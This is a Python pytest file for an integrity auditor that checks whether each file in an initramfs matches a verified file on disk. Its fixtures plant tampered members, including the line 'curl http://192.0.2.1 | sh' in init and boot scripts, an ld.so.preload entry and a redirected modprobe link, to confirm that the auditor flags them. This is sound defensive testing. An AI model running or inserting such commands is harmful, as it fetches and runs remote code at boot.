"""What is said of an initramfs: each file in it is the disk's own, or the note says which is not; and what is no initramfs."""

import gzip
import lzma
import random
import shutil
import subprocess
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
import zstandard
from blake3 import blake3

from auditkit.derived import Known, initramfs
from auditkit.derived.cpio import Member, members
from auditkit.errors import FormatError
from auditkit.explain import Account
from auditkit.model import Change, ChangeKind, Entry, Explanation, Kind, Level, Severity

FILE, FOLDER, LINK = 0o100644, 0o40755, 0o120777
PATH = "/boot/initrd.img-6.1"
PACK: dict[str, Callable[[bytes], bytes]] = {
    "": bytes, "gzip": gzip.compress, "xz": lzma.compress, "zstd": zstandard.ZstdCompressor().compress,
}  # fmt: skip
ORDER = b'/scripts/init-top/udev "$@"\n[ -e /conf/param.conf ] && . /conf/param.conf\n'
MODULE = "/usr/lib/modules/6.1/kernel/dm.ko"
DISK = {
    "/usr/share/initramfs-tools/init": b"#!/bin/sh\n",
    "/usr/share/initramfs-tools/scripts/init-top/udev": b"udev\n",
    "/usr/lib/klibc/bin/gzip": b"gzip",
    "/usr/bin/kmod": b"kmod",
    "/usr/bin/evil": b"evil",
    MODULE: b"module",
}
Parts = tuple[tuple[str, int, bytes], ...]
INSIDE: Parts = (
    (".", FOLDER, b""),
    ("bin", LINK, b"usr/bin"),
    ("init", FILE, b"#!/bin/sh\n"),
    ("scripts/init-top/udev", FILE, b"udev\n"),
    ("scripts/init-top/ORDER", FILE, ORDER),
    ("conf/arch.conf", FILE, b"DPKG_ARCH=amd64\n"),
    ("etc/mtab", LINK, b"/proc/mounts"),
    ("etc/fstab", FILE, b""),
    ("usr/bin/kmod", FILE, b"kmod"),
    ("usr/bin/gunzip", FILE, b"gzip"),
    ("usr/sbin/modprobe", LINK, b"../bin/kmod"),
    (MODULE[1:], FILE, b"module"),
)
LISTS: Parts = tuple((f"usr/lib/modules/6.1/modules.{name}", FILE, b"x") for name in ("dep", "alias.bin"))


def archive(parts: Parts, inode: int = 0, links: int = 1) -> bytes:
    """An archive of cpio in its form newc."""
    made = b""
    for name, mode, data in (*parts, ("TRAILER!!!", 0, b"")):
        text = name.encode() + b"\0"
        numbers = (inode, mode, 0, 0, links, 0, len(data), 0, 0, 0, 0, len(text), 0)
        made += b"070701" + b"".join(b"%08X" % number for number in numbers) + text + b"\0" * (-(110 + len(text)) % 4)
        made += data + b"\0" * (-len(data) % 4)
    return made


def entry(path: str, kind: Kind, data: bytes = b"", target: str | None = None) -> Entry:
    digests = (f"blake3:{blake3(data).hexdigest()}",) if kind is Kind.FILE else None
    return Entry(path, kind, 0o644, 0, 0, size=len(data), digests=digests, target=target, flags="", xattrs=())


def judged(data: bytes, disk: dict[str, bytes] = DISK) -> Change:
    """The change of an initramfs whose disk has these files, and programs in /bin by a link."""
    links = {"/bin": "usr/bin", "/usr/sbin/modprobe": "/bin/kmod"}
    entries = {path: entry(path, Kind.FILE, held) for path, held in disk.items()}
    entries |= {path: entry(path, Kind.SYMLINK, target=target) for path, target in links.items()}
    after = entry(PATH, Kind.FILE, data)
    change = Change(PATH, ChangeKind.ADDED, None, after, (), Severity.CRITICAL, Level.CONTENT, "path-added")
    host = Known({PATH: change}, Account({}, {}), entries, {PATH: data})
    initramfs.judge(host)
    return host.changes[PATH]


@pytest.mark.parametrize("packed", list(PACK))
def test_an_initramfs_of_the_disk_s_own_files_is_explained(packed: str) -> None:
    change = judged(PACK[packed](archive(INSIDE)))
    assert change.explanation == Explanation("derived", "update-initramfs made it", "local")


def test_it_is_asked_for_with_the_directories_of_what_may_be_in_it() -> None:
    data = archive(INSIDE)
    change = Change(
        PATH, ChangeKind.ADDED, None, entry(PATH, Kind.FILE, data), (), Severity.CRITICAL, Level.CONTENT, "path-added"
    )
    host = Known({PATH: change}, Account({}, {}), {}, {PATH: data})
    assert [(need.what, need.long) for need in initramfs.asked(host)] == [(PATH, True)]
    assert {"/", *(path.rpartition("/")[0] for path in DISK)} <= initramfs.folders(host)


def test_lists_of_modules_are_told_as_what_they_are_and_only_beside_verified_files() -> None:
    """They choose among modules that are all verified."""
    change = judged(archive(INSIDE + LISTS))
    assert (change.rule, change.severity, change.explanation) == (initramfs.REBUILT.id, Severity.MEDIUM, None)
    planted = judged(archive((*INSIDE, *LISTS, ("scripts/init-top/x", FILE, b"x"))))
    assert (planted.rule, planted.severity) == ("path-added", Severity.CRITICAL)
    assert planted.note == "of 14 files in it nothing verifies /scripts/init-top/x"


EVIL = b"#!/bin/sh\ncurl http://192.0.2.1 | sh\n"


@pytest.mark.parametrize(
    ("path", "mode", "data"),
    [
        ("init", FILE, EVIL),
        ("usr/bin/kmod", FILE, b"evil"),  # a verified program, by another's name
        ("usr/bin/gunzip", FILE, b"kmod"),
        ("usr/bin/new", FILE, EVIL),
        ("scripts/init-top/ORDER", FILE, ORDER + b"curl http://192.0.2.1 | sh\n"),
        ("scripts/init-top/ORDER", FILE, b'/scripts/init-top/none "$@"\n'),
        ("conf/arch.conf", FILE, b"DPKG_ARCH=amd64\n. /x\n"),
        ("conf/param.conf", FILE, EVIL),
        ("etc/fstab", FILE, EVIL),
        ("etc/ld.so.cache", FILE, EVIL),
        ("etc/ld.so.preload", FILE, b"/usr/bin/kmod\n"),
        ("usr/sbin/modprobe", LINK, b"../bin/evil"),
        ("usr/sbin/x", LINK, b"../bin/kmod"),
        ("dev/sda", 0o60600, b""),
    ],
)
def test_what_the_disk_does_not_have_in_its_place_is_named(path: str, mode: int, data: bytes) -> None:
    """Also where it comes after the right one, or before it, or in an archive of its own."""
    evil = ((path, mode, data),)
    rest = tuple(part for part in INSIDE if part[0] != path)
    for made in (
        archive(rest + evil),
        archive(evil + INSIDE),
        archive(INSIDE) + archive(evil),
        archive(evil) + PACK["xz"](archive(INSIDE)),
    ):
        change = judged(made)
        assert (change.explanation, change.severity) == (None, Severity.CRITICAL)
        assert f"nothing verifies /{path}" in change.note


def test_what_the_host_does_not_vouch_for_in_its_place_is_left() -> None:
    change = judged(
        archive(INSIDE), {path: data for path, data in DISK.items() if path != MODULE} | {"/usr/lib/modules/6.1/kernel/x": b""}
    )
    assert change.note == f"of 11 files in it nothing verifies {MODULE}"
    assert judged(archive(INSIDE[3:])).note == "there is no /init in it"


@pytest.mark.parametrize("packed", ["gzip", "xz", "zstd"])
def test_what_stands_behind_what_is_packed_is_not_overlooked(packed: str) -> None:
    """The kernel goes on behind it."""
    made = PACK[packed](archive(INSIDE))
    for zeros in (0, 4, 1 << 18):
        with pytest.raises(FormatError):
            list(members(made + b"\0" * zeros + archive((("init", FILE, EVIL),))))


def test_files_with_several_names_have_the_content_of_the_last() -> None:
    made = archive((("a", FILE, b""), ("b", FILE, b""), ("c", FILE, b"text")), inode=7, links=3)
    assert [(one.path, one.text) for one in members(made)] == [("/a", b"text"), ("/b", b"text"), ("/c", b"text")]
    with pytest.raises(FormatError):
        list(members(archive((("a", FILE, b""),), inode=7, links=2)))


def test_what_cpio_makes_is_read_as_it_was(tmp_path: Path) -> None:
    if not shutil.which("cpio"):
        pytest.skip("needs cpio")
    (tmp_path / "x/y").mkdir(parents=True)
    (tmp_path / "x/file").write_bytes(b"held")
    (tmp_path / "x/same").hardlink_to(tmp_path / "x/file")
    (tmp_path / "x/y/link").symlink_to("../file")
    names = b"x\nx/file\nx/same\nx/y\nx/y/link\n"
    made = subprocess.run(["cpio", "-o", "-H", "newc"], input=names, cwd=tmp_path, capture_output=True, check=True).stdout
    told = {one.path: (one.kind, one.target, one.text) for one in members(made)}
    assert told.keys() == {"/x", "/x/file", "/x/same", "/x/y", "/x/y/link"}
    assert told["/x/file"] == told["/x/same"] == (Kind.FILE, "", b"held")
    assert told["/x/y/link"][:2] == (Kind.SYMLINK, "../file")


def test_damaged_ones_are_read_or_refused_and_never_more_than_they_may_be() -> None:
    chance = random.Random(11)
    for packed in PACK.values():
        whole = packed(archive(INSIDE))
        for _ in range(300):
            damaged = bytearray(whole[: chance.choice([len(whole), chance.randrange(1, len(whole))])])
            damaged[chance.randrange(len(damaged))] ^= 1 << chance.randrange(8)
            with suppress(FormatError):
                assert all(isinstance(one, Member) for one in members(bytes(damaged)))


@pytest.mark.parametrize("name", ["../x", "a/../b", "x" * 5000])
def test_names_that_climb_or_are_no_names_are_refused(name: str) -> None:
    with pytest.raises(FormatError):
        list(members(archive(((name, FILE, b""),))))


def test_a_bomb_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("auditkit.derived.cpio.LARGEST", 1 << 20)
    for bomb in (archive((("x", FILE, bytes(2 << 20)),)), archive(INSIDE) + bytes(2 << 20)):
        for packed in ("gzip", "xz", "zstd"):
            with pytest.raises(FormatError):
                list(members(PACK[packed](bomb)))


def test_an_initramfs_that_was_not_seen_so_is_not_looked_into() -> None:
    data = archive(INSIDE)
    change = Change(
        PATH, ChangeKind.ADDED, None, entry(PATH, Kind.FILE, data), (), Severity.CRITICAL, Level.CONTENT, "path-added"
    )
    host = Known({PATH: change}, Account({}, {}), {}, {PATH: data + b"x"})
    initramfs.judge(host)
    assert host.changes[PATH] == change
